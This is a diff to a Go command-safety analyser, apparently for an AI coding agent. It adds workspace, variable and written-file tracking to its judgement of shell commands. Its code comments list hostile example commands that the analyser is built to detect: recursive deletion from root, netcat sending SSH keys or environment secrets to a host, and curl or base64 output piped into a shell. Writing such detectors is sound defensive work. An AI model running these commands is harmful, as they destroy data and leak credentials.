@@ -11,8 +11,16 @@
 // backend checks each program again when it is executed (CheckExec), after
 // the shell has expanded its words.
 //
-// Rules live in one table (rules.go); each carries examples that must and
-// must not match, and a table test keeps them honest.
+// Rules live in one table (rules.go, rules_classes.go); each carries
+// examples that must and must not match, and a table test keeps them
+// honest. Besides what the rules find, safe means known: a command whose
+// programs are all in the table of programs known to be harmless
+// (known_table.go), with options known to be harmless and writes inside
+// the workspace, is known; everything else is named in Verdict.Unknown,
+// which the sandbox confines (or, without one, the caller asks about).
+// Files the agent wrote that a command runs — a script, a Makefile's
+// recipes, package.json's scripts, a git alias — are analysed like the
+// command itself when Options.Script can read them (script.go).
 //
 // guard only judges: it never runs, rewrites or approves a command, and
 // keeps no state (grants live in the store, the approval flow in agent).
@@ -101,10 +109,11 @@ func AnalyzeWith(command string, opt Options) Verdict {
 }
 
 func newAnalyzer(opt Options) *analyzer {
-	a := &analyzer{pr: newPathRules(opt)}
+	a := &analyzer{pr: newPathRules(opt), script: opt.Script}
 	if opt.Cwd != "" {
 		a.cwd = a.pr.norm(opt.Cwd, "")
 	}
+	a.root = a.cwd
 	return a
 }
 
@@ -119,6 +128,25 @@ type analyzer struct {
 	// by each literal cd; "" when unknown. It lets `cd / && rm -rf *` be
 	// seen for what it is.
 	cwd string
+	// root is the workspace: the directory the command starts in
+	// (normalised Options.Cwd), where writes are as harmless as the
+	// sandbox allows; "" when unknown.
+	root string
+	// vars are the literal values assigned to shell variables so far
+	// (x=/etc; rm -rf $x): a command using them is judged again with
+	// them put in.
+	vars vars
+	// script is Options.Script; written holds the files earlier commands
+	// of the command line wrote with known content (cat > x.sh <<EOF),
+	// by fileKey.
+	script  func(path string) ([]byte, bool, error)
+	written map[string]writtenFile
+	// via, while a file is analysed, says which, for the reasons of its
+	// findings: "in x.sh, which the agent wrote".
+	via string
+	// inTail is set while the arguments of an unknown program are
+	// judged as a command of their own (tail.go).
+	inTail bool
 	// ifsSet is set once the script assigns IFS: from then on $IFS is not
 	// known to split words at blanks.
 	ifsSet bool
@@ -159,6 +187,9 @@ type scope struct {
 	// outer, when set, is the span of the string the code was taken from;
 	// offsets inside re-parsed code mean nothing to the caller.
 	outer *[2]int
+	// quiet keeps the code's programs out of Verdict.Unknown: what runs
+	// them is there already (a script, an unknown wrapper).
+	quiet bool
 }
 
 // at maps a span in the code being analysed to a span in the command.
@@ -186,6 +217,9 @@ func (a *analyzer) add(r *rule, detail string, span [2]int) {
 	reason := r.reason
 	if detail != "" {
 		reason += ": " + detail
+	}
+	if a.via != "" {
+		reason += " (" + a.via + ")"
 	}
 	a.v.Findings = append(a.v.Findings, Finding{ID: r.id, Level: r.level, Reason: reason, Span: span})
 }
@@ -226,7 +260,7 @@ func (a *analyzer) visitor(sc scope) func(syntax.Node) bool {
 		case *syntax.CallExpr:
 			a.call(n, sc)
 		case *syntax.DeclClause:
-			a.assigns(n.Args, sc)
+			a.assigns(n.Args, true, sc)
 		case *syntax.FuncDecl:
 			a.funcDecl(n, sc)
 		case *syntax.BinaryCmd:
@@ -278,12 +312,28 @@ func (a *analyzer) stmt(st *syntax.Stmt, sc scope) {
 			}
 			text, known := docValue(rd)
 			kind := "a here-document"
+			doc := rd.Hdoc
 			if rd.Op == syntax.WordHdoc {
-				kind = "a here-string"
+				kind, doc = "a here-string", rd.Word
 			}
-			a.feed(&sink, &feed{kind: kind, text: text, known: known, span: sc.span(rd)}, sc)
+			f := feed{kind: kind, text: text, known: known, span: sc.span(rd)}
+			if !known {
+				// nc host 9 <<< "$(env)"
+				f.secret = substSecret(doc, &a.pr, a.cwd)
+			}
+			a.feed(&sink, &f, sc)
 			continue
 		case syntax.RdrIn:
+			v, known := "", false
+			if rd.Word != nil {
+				v, known = wordValue(rd.Word)
+			}
+			// xxd < ~/.ssh/id_rsa, $(< ~/.herm/.env)
+			if known {
+				if s, ok := a.pr.secretReadPath(v, a.cwd); ok {
+					a.add(ruleByID("secret-read"), "the input is "+s, sc.span(rd))
+				}
+			}
 			sink, ok := a.cmdOf(st)
 			if !ok {
 				continue
@@ -292,10 +342,16 @@ func (a *analyzer) stmt(st *syntax.Stmt, sc scope) {
 			if ps := procSubst(rd.Word); ps != nil {
 				f := a.feedFrom(ps.Stmts, "a process substitution", sc.span(rd))
 				a.feed(&sink, &f, sc)
-			} else if v, ok := wordValue(rd.Word); ok {
-				// nc host 9 < ~/.ssh/id_rsa
-				if s, ok := a.pr.secretPath(v, a.cwd); ok {
-					a.feed(&sink, &feed{kind: "a redirected file", fileInput: true, secret: s, span: sc.span(rd)}, sc)
+			} else if known {
+				// nc host 9 < ~/.ssh/id_rsa; sqlite3 ~/.herm/state.db < x.sql
+				f := feed{kind: "a redirected file " + v, fileInput: true, span: sc.span(rd)}
+				f.secret, _ = a.pr.secretPath(v, a.cwd)
+				if w, ok := a.written[a.pr.fileKey(v, a.cwd)]; ok && !w.partial && (sink.name == "sqlite3" || sink.name == "sqlite") {
+					// Written earlier in the command line: what it says is known.
+					f.text, f.known = w.text, true
+				}
+				if f.secret != "" || sink.name == "sqlite3" || sink.name == "sqlite" {
+					a.feed(&sink, &f, sc)
 				}
 			}
 			continue
@@ -312,19 +368,34 @@ func (a *analyzer) stmt(st *syntax.Stmt, sc scope) {
 		}
 		if isWriteRedirect(rd.Op) && rd.N == nil {
 			a.noteDownload(st, rd)
+			a.noteWritten(st, rd)
 		}
 		for _, t := range a.words([]*syntax.Word{rd.Word}) {
-			rc := redirCtx{cwd: a.cwd, pr: &a.pr}
-			for i := range rules {
-				r := &rules[i]
-				if r.redirect == nil {
-					continue
-				}
-				if d := r.redirect(rd.Op, t, &rc); d != "" {
-					a.add(r, d, sc.span(rd))
-				}
+			r, resolved := t.resolved(a.vars)
+			a.redirect(rd.Op, t, sc.span(rd), sc.quiet || resolved)
+			if resolved {
+				a.redirect(rd.Op, r, sc.span(rd), sc.quiet)
 			}
 		}
+	}
+}
+
+// redirect runs the redirect rules on the target t of a redirection,
+// and names a write outside the workspace in Verdict.Unknown unless
+// quiet.
+func (a *analyzer) redirect(op syntax.RedirOperator, t arg, span [2]int, quiet bool) {
+	rc := redirCtx{cwd: a.cwd, pr: &a.pr}
+	for i := range rules {
+		r := &rules[i]
+		if r.redirect == nil {
+			continue
+		}
+		if d := r.redirect(op, t, &rc); d != "" {
+			a.add(r, d, span)
+		}
+	}
+	if !quiet && isWriteRedirect(op) && !a.inWorkspace(t, a.cwd) {
+		a.noteUnknown("> " + shortWord(t.val))
 	}
 }
 
@@ -341,9 +412,17 @@ func (a *analyzer) noteDownload(st *syntax.Stmt, rd *syntax.Redirect) {
 }
 
 func (a *analyzer) call(ce *syntax.CallExpr, sc scope) {
-	a.assigns(ce.Assigns, sc)
+	a.assigns(ce.Assigns, len(ce.Args) == 0, sc)
 	if len(ce.Args) == 0 {
 		return
+	}
+	// With the variables assigned earlier in the command put in, the
+	// words may say more (d=/etc; rm -rf $d): that command is judged too,
+	// and it, not the one with holes, names what is unknown.
+	resolved := a.resolvedCall(ce)
+	first := sc
+	if resolved != nil {
+		first.quiet = true
 	}
 	c := a.cached(ce)
 	if c == nil {
@@ -361,51 +440,10 @@ func (a *analyzer) call(ce *syntax.CallExpr, sc scope) {
 	if len(ce.Assigns) > 0 {
 		c.all = append(a.assignWords(ce.Assigns), c.all...)
 	}
-	a.check(c, sc.span(ce), sc)
-}
-
-// assigns notes assignments to IFS and checks the assigned values (a
-// metadata address in URL=… is as telling as in an argument).
-func (a *analyzer) assigns(as []*syntax.Assign, sc scope) {
-	if len(as) == 0 {
-		return
+	a.check(c, sc.span(ce), first)
+	if resolved != nil {
+		a.check(resolved, sc.span(ce), sc)
 	}
-	for _, as := range as {
-		if as.Name != nil && as.Name.Value == "IFS" {
-			a.ifsSet = true
-		}
-	}
-	ws := a.assignWords(as)
-	if len(ws) == 0 {
-		return
-	}
-	c := cmd{all: ws, cwd: a.cwd, pr: &a.pr}
-	for i := range rules {
-		r := &rules[i]
-		if r.words == nil {
-			continue
-		}
-		if d, at := r.words(c.all); d != "" {
-			a.add(r, d, sc.at(at.span))
-		}
-	}
-}
-
-func (a *analyzer) assignWords(as []*syntax.Assign) []arg {
-	var ws []*syntax.Word
-	for _, as := range as {
-		if as.Value != nil {
-			ws = append(ws, as.Value)
-		}
-		if as.Array != nil {
-			for _, e := range as.Array.Elems {
-				if e.Value != nil {
-					ws = append(ws, e.Value)
-				}
-			}
-		}
-	}
-	return words(ws, false)
 }
 
 // check runs the rules on one simple command and follows the code it runs.
@@ -431,8 +469,16 @@ func (a *analyzer) check(c *cmd, span [2]int, sc scope) {
 			}
 		}
 	}
+	for _, w := range c.assigns {
+		a.assignWord(w, span, sc)
+	}
 	if code, _, ok := embeddedCode(c); ok && code.known {
 		a.nested(code.val, sc.at(code.span), sc)
+	}
+	for _, o := range c.codeOptions() {
+		if o.shell && o.code.known && o.code.val != "" {
+			a.nested(o.code.val, spanOf(&o.code, span, sc), sc)
+		}
 	}
 	// bash <(curl …), source <(…): a process substitution run as a script.
 	if ps, ok := scriptSubst(c); ok {
@@ -442,6 +488,28 @@ func (a *analyzer) check(c *cmd, span [2]int, sc scope) {
 	}
 	for _, sub := range findExecs(c) {
 		a.check(&sub, span, sc)
+	}
+	ran := a.runFiles(c, span, sc)
+	prog, onlyWrites := a.programUnknownWrites(c)
+	if !sc.quiet {
+		u := prog
+		if !c.dynamic {
+			for _, w := range c.wrappers {
+				if !transparentWrapper(w) {
+					u = w
+					break
+				}
+			}
+		} else {
+			u = "a command decided at run time"
+		}
+		if ran != "" && u != "" {
+			u = ran
+		}
+		a.noteUnknown(u)
+	}
+	if prog != "" && !onlyWrites {
+		a.tail(c, span, sc)
 	}
 	if c.name == "cd" || c.name == "pushd" {
 		a.cwd = cdTarget(c.args, a.cwd, &a.pr)
@@ -453,83 +521,6 @@ func spanOf(at *arg, whole [2]int, sc scope) [2]int {
 		return whole
 	}
 	return sc.at(at.span)
-}
-
-// pipe checks what flows into each command of a pipeline: curl … | sh,
-// base64 -d | bash, echo 'DROP TABLE t' | sqlite3 db. Pipes nest to the
-// left ((a | b) | c); the outermost one judges the whole pipeline, once.
-func (a *analyzer) pipe(b *syntax.BinaryCmd, sc scope) {
-	if a.piped[b] {
-		return
-	}
-	stages := []*syntax.Stmt{b.Y}
-	for x := b.X; ; {
-		inner, ok := x.Cmd.(*syntax.BinaryCmd)
-		if !ok || inner.Op != syntax.Pipe && inner.Op != syntax.PipeAll {
-			stages = append(stages, x)
-			break
-		}
-		if a.piped == nil {
-			a.piped = map[*syntax.BinaryCmd]bool{}
-		}
-		a.piped[inner] = true
-		stages = append(stages, inner.Y)
-		x = inner.X
-	}
-	// stages is last-first; put it in pipeline order.
-	for i, j := 0, len(stages)-1; i < j; i, j = i+1, j-1 {
-		stages[i], stages[j] = stages[j], stages[i]
-	}
-	facts := make([]stageFacts, len(stages))
-	for i, st := range stages {
-		facts[i] = a.stageFacts(st, false)
-		if ce, ok := st.Cmd.(*syntax.CallExpr); ok && facts[i].ok && len(a.cache) < maxCache {
-			if a.cache == nil {
-				a.cache = make([]cachedCmd, 0, len(stages))
-			}
-			a.cache = append(a.cache, cachedCmd{ce, &facts[i].c})
-		}
-	}
-	// Secrets read by a stage matter only when a later stage sends its
-	// input away.
-	for k := len(stages) - 1; k >= 1; k-- {
-		if facts[k].ok && isSender(&facts[k].c) {
-			for i := range k {
-				if facts[i].ok {
-					facts[i].secret = secretIn(&facts[i].c)
-				}
-			}
-			break
-		}
-	}
-	var f, fk feed
-	f.kind = "a pipe"
-	for k := 1; k < len(stages); k++ {
-		f.add(&facts[k-1])
-		if !facts[k].ok {
-			continue
-		}
-		fk = f
-		fk.span = sc.at([2]int{int(stages[0].Pos().Offset()), int(stages[k].End().Offset())})
-		a.feed(&facts[k].c, &fk, sc)
-	}
-}
-
-// feed runs the feed rules on input reaching sink, and re-parses input a
-// shell will run when its text is known.
-func (a *analyzer) feed(sink *cmd, f *feed, sc scope) {
-	for i := range rules {
-		r := &rules[i]
-		if r.feed == nil {
-			continue
-		}
-		if d := r.feed(sink, f); d != "" {
-			a.add(r, d, f.span)
-		}
-	}
-	if f.known && runsShellInput(sink, f) {
-		a.nested(f.text, f.span, sc)
-	}
 }
 
 func (a *analyzer) funcDecl(fd *syntax.FuncDecl, sc scope) {
@@ -553,7 +544,7 @@ func (a *analyzer) nested(code string, span [2]int, sc scope) {
 	// A cd inside the nested code does not move the outer shell (bash -c
 	// runs in a child), so the directory is restored afterwards.
 	cwd := a.cwd
-	a.source(code, scope{depth: sc.depth + 1, outer: &span})
+	a.source(code, scope{depth: sc.depth + 1, outer: &span, quiet: sc.quiet})
 	a.cwd = cwd
 }
 
